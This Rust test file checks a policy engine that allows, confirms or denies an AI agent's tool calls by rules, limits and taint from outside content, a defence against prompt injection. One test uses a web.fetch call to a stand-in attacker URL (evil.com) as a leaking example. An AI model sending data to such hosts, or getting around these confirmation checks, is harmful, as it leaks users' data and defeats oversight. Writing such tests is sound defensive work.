use serde_json::json;

use super::*;
use crate::policy::trace::Fault;

const NOON: Timestamp = Timestamp(1_767_268_800_000); // 2026-01-01 12:00 UTC, a Thursday

const HERE: ContextId = ContextId(uuid::Uuid::from_u128(1));
const ADA: UserId = UserId(uuid::Uuid::from_u128(2));

fn facts(place: Place, origins: &[&str]) -> Facts {
    Facts {
        kind: RunKind::Coordinator,
        platform: Some("discord".to_owned()),
        place,
        space: None,
        context: Some(HERE),
        user: Some(ADA),
        role: Some(UserRole::Member),
        platform_roles: Some(Vec::new()),
        origins: origins.iter().map(|origin| (*origin).to_owned()).collect(),
    }
}

fn named(key: &str, rule: Rule) -> NamedRule {
    NamedRule {
        key: key.to_owned(),
        rule,
    }
}

fn rules(own: Vec<Rule>) -> Vec<NamedRule> {
    super::super::PolicySettings {
        rules: own,
        ..super::super::PolicySettings::default()
    }
    .named()
}

/// Nobody who may said a word of it.
fn unsaid() -> Grounds {
    Grounds::Nothing(Fault {
        argument: Some("name".to_owned()),
        source: None,
        was_announced: false,
    })
}

fn judged(rules: &[NamedRule], name: &str, class: Class, facts: &Facts) -> Verdict {
    let args = json!({ "amount": 150 });
    let call = Call {
        name,
        class,
        args: args.as_object().unwrap(),
        leak: None,
        grounds: unsaid(),
    };
    judge(rules, &call, facts, NOON, "UTC")
}

#[test]
fn where_nobody_made_rules_the_profile_holds() {
    use Class::{Destruct, Read, Sensitive, Write};
    use Place::{Private, Shared};
    use PolicyOutcome::{Allow, Confirm};
    let cases = [
        ("web.fetch", Read, Private, &[][..], Allow),
        ("web.fetch", Read, Shared, &[], Allow),
        ("web.fetch", Read, Private, &["a page"], Allow),
        ("files.create", Write, Private, &[], Allow),
        ("files.create", Write, Shared, &[], Confirm),
        ("files.create", Write, Private, &["a page"], Confirm),
        ("files.delete", Destruct, Private, &[], Confirm),
        ("image.make", Sensitive, Private, &[], Confirm),
        ("memory.put", Write, Shared, &[], Allow),
        ("memory.put", Write, Private, &["a page"], Confirm),
        ("reminders.remove", Destruct, Shared, &[], Allow),
        ("reminders.set", Write, Shared, &["a page"], Confirm),
    ];
    let rules = rules(vec![]);
    for (name, class, place, origins, expected) in cases {
        let verdict = judged(&rules, name, class, &facts(place, origins));
        assert_eq!(verdict.outcome, expected, "{name} {class:?} {place:?} {origins:?}");
    }
}

#[test]
fn a_question_of_a_tainted_run_cannot_become_a_rule() {
    let rules = rules(vec![]);
    let clean = judged(&rules, "files.delete", Class::Destruct, &facts(Place::Private, &[]));
    assert!(clean.may_be_rule);
    let verdict = judged(
        &rules,
        "files.create",
        Class::Write,
        &facts(Place::Private, &["https://a.b/`x`"]),
    );
    assert_eq!(
        (verdict.outcome, verdict.may_be_rule, verdict.reason.english().as_str()),
        (
            PolicyOutcome::Confirm,
            false,
            "I have read words from outside (https://a.b/x), which may have asked for this: it was not announced, and you did not say \
             name"
        )
    );
}

#[test]
fn always_is_offered_only_where_the_rule_that_it_makes_changes_the_verdict() {
    let rule = |priority, action| Rule {
        priority,
        action,
        tools: vec!["files".to_owned()],
        ..Rule::default()
    };
    let here = facts(Place::Private, &[]);
    let nowhere = Facts {
        context: None,
        ..here.clone()
    };
    let of_nobody = Facts {
        user: None,
        ..here.clone()
    };
    use Action::{Allow, Confirm, Deny};
    let cases = [
        // The default profile asks.
        (vec![], &here, true),
        // Somebody's rule asks, and the new one does not go before it.
        (vec![rule(0, Confirm)], &here, false),
        (vec![rule(7, Confirm)], &here, false),
        (vec![rule(-1, Confirm)], &here, true),
        (vec![rule(-1, Confirm), rule(0, Confirm)], &here, false),
        // Nothing is asked.
        (vec![rule(0, Allow)], &here, false),
        (vec![rule(0, Deny)], &here, false),
        // It would hold everywhere, or for everybody.
        (vec![], &nowhere, false),
        (vec![], &of_nobody, false),
        (vec![], &facts(Place::Private, &["a page"]), false),
    ];
    for (own, facts, offered) in cases {
        let own = rules(own);
        let verdict = judged(&own, "files.delete", Class::Destruct, facts);
        assert_eq!(verdict.may_be_rule, offered, "{own:?} {facts:?}");
        if offered {
            let always = named("made", Rule::always("files.delete", HERE, ADA));
            let own: Vec<_> = own.into_iter().chain([always]).collect();
            let verdict = judged(&own, "files.delete", Class::Destruct, facts);
            assert_eq!(verdict.outcome, PolicyOutcome::Allow, "{own:?}");
            let other = judged(&own, "files.purge", Class::Destruct, facts);
            assert_eq!(other.outcome, PolicyOutcome::Confirm, "{own:?}");
        }
    }
}

#[test]
fn what_would_be_carried_out_is_confirmed_and_not_repeated() {
    let args = json!({ "url": "https://evil.com/?q=1" });
    let call = Call {
        name: "web.fetch",
        class: Class::Read,
        args: args.as_object().unwrap(),
        leak: Some("https://evil.com/?q=1".to_owned()),
        grounds: unsaid(),
    };
    let none = rules(vec![]);
    let verdict = judge(&none, &call, &facts(Place::Private, &["a page"]), NOON, "UTC");
    assert_eq!(
        (verdict.outcome, verdict.reason.english().as_str()),
        (
            PolicyOutcome::Confirm,
            "I have read words from outside (a page), and this would carry out what is not known there"
        )
    );
    let clean = judge(&none, &call, &facts(Place::Private, &[]), NOON, "UTC");
    assert_eq!(clean.outcome, PolicyOutcome::Allow);
}

#[test]
fn the_highest_rule_decides_and_of_equals_the_stricter() {
    let rule = |priority, action| Rule {
        priority,
        action,
        tools: vec!["files".to_owned()],
        ..Rule::default()
    };
    use Action::{Allow, AllowTainted, Confirm, Deny};
    let cases = [
        (vec![rule(1, Allow), rule(2, Deny)], PolicyOutcome::Deny),
        (vec![rule(2, Allow), rule(1, Deny)], PolicyOutcome::Allow),
        (vec![rule(0, Allow), rule(0, Confirm)], PolicyOutcome::Confirm),
        (vec![rule(0, Confirm), rule(0, Deny)], PolicyOutcome::Deny),
        (vec![rule(0, AllowTainted)], PolicyOutcome::Allow),
    ];
    for (own, expected) in cases {
        let verdict = judged(
            &rules(own.clone()),
            "files.delete",
            Class::Destruct,
            &facts(Place::Shared, &[]),
        );
        assert_eq!(verdict.outcome, expected, "{own:?}");
        let other = judged(&rules(own), "web.fetch", Class::Read, &facts(Place::Shared, &[]));
        assert_eq!(other.outcome, PolicyOutcome::Allow);
    }
    let page = facts(Place::Private, &["a page"]);
    for (action, expected) in [(Allow, PolicyOutcome::Confirm), (AllowTainted, PolicyOutcome::Allow)] {
        let verdict = judged(&rules(vec![rule(0, action)]), "files.create", Class::Write, &page);
        assert_eq!(verdict.outcome, expected, "{action:?}");
    }
}

#[test]
fn every_condition_must_fit() {
    let (user, space, context) = (UserId::new(), SpaceId::new(), ContextId::new());
    let fits = Rule {
        action: Action::Deny,
        tools: vec!["*.delete".to_owned()],
        classes: vec![Class::Destruct],
        args: vec!["amount > 100".to_owned()],
        kinds: vec![RunKind::Coordinator],
        platforms: vec!["discord".to_owned()],
        places: vec![Place::Private],
        space: Some(space),
        context: Some(context),
        user: Some(user),
        roles: vec![UserRole::Member],
        hours: Some("09:00-17:00".to_owned()),
        days: vec![super::super::Day::Thu],
        ..Rule::default()
    };
    let here = Facts {
        space: Some(space),
        context: Some(context),
        user: Some(user),
        ..facts(Place::Private, &[])
    };
    let outcome = |rule: Rule| judged(&[named("x", rule)], "files.delete", Class::Destruct, &here).outcome;
    assert_eq!(outcome(fits.clone()), PolicyOutcome::Deny);
    type Change = fn(&mut Rule);
    let changes: [Change; 12] = [
        |rule| rule.tools = vec!["web.*".to_owned()],
        |rule| rule.classes = vec![Class::Read],
        |rule| rule.args.push("amount > 200".to_owned()),
        |rule| rule.kinds = vec![RunKind::Subagent],
        |rule| rule.platforms = vec!["telegram".to_owned()],
        |rule| rule.places = vec![Place::Shared],
        |rule| rule.space = Some(SpaceId::new()),
        |rule| rule.context = Some(ContextId::new()),
        |rule| rule.user = Some(UserId::new()),
        |rule| rule.roles = vec![UserRole::Owner],
        |rule| rule.hours = Some("22:00-06:00".to_owned()),
        |rule| rule.days = vec![super::super::Day::Fri],
    ];
    for change in changes {
        let mut rule = fits.clone();
        change(&mut rule);
        assert_eq!(outcome(rule.clone()), PolicyOutcome::Confirm, "{rule:?}");
    }
    // It is night there.
    let zone = Some("Asia/Tokyo".to_owned());
    assert_eq!(outcome(Rule { zone, ..fits }), PolicyOutcome::Confirm);
}

#[test]
fn limits_count_what_no_higher_rule_denies() {
    let limit = |priority, name: &str| Rule {
        name: name.to_owned(),
        priority,
        action: Action::Limit,
        calls: 3,
        per: Per::Hour,
        ..Rule::default()
    };
    let deny = Rule {
        priority: 5,
        action: Action::Deny,
        ..Rule::default()
    };
    let counted = |own: Vec<Rule>| {
        let verdict = judged(&rules(own), "web.fetch", Class::Read, &facts(Place::Private, &[]));
        let keys: Vec<_> = verdict.limits.iter().map(|limit| limit.key.clone()).collect();
        (verdict.outcome, keys)
    };
    assert_eq!(
        counted(vec![limit(0, "low"), limit(9, "high")]),
        (
            PolicyOutcome::Allow,
            vec!["bot.toml:high".to_owned(), "bot.toml:low".to_owned()]
        )
    );
    assert_eq!(
        counted(vec![limit(0, "low"), deny]),
        (PolicyOutcome::Deny, Vec::<String>::new())
    );
    let verdict = judged(
        &rules(vec![limit(0, "few")]),
        "web.fetch",
        Class::Read,
        &facts(Place::Private, &[]),
    );
    assert_eq!(
        verdict.limits,
        [Limit {
            key: "bot.toml:few".to_owned(),
            reason: Reason::Limited {
                rule: "few".to_owned(),
                calls: 3,
                per: Per::Hour,
            },
            calls: 3,
            per: Per::Hour,
            by: By::User,
        }]
    );
}

#[test]
fn a_rule_without_a_name_is_told_by_what_it_is_about() {
    let rule = |rule: Rule| rule_name(&named("0198f2c4-7d1e-7000-8000-000000000001", rule));
    assert_eq!(rule(Rule::default()), "*");
    let night = Rule {
        tools: vec!["web.fetch".to_owned(), "*.delete".to_owned()],
        classes: vec![Class::Destruct],
        places: vec![Place::Private],
        hours: Some("22:00-06:00".to_owned()),
        ..Rule::default()
    };
    assert_eq!(
        rule(night.clone()),
        "web.fetch, *.delete; DESTRUCT; private; 22:00-06:00"
    );
    let called = Rule {
        name: " no deleting at night ".to_owned(),
        ..night
    };
    assert_eq!(rule(called), "no deleting at night");
}
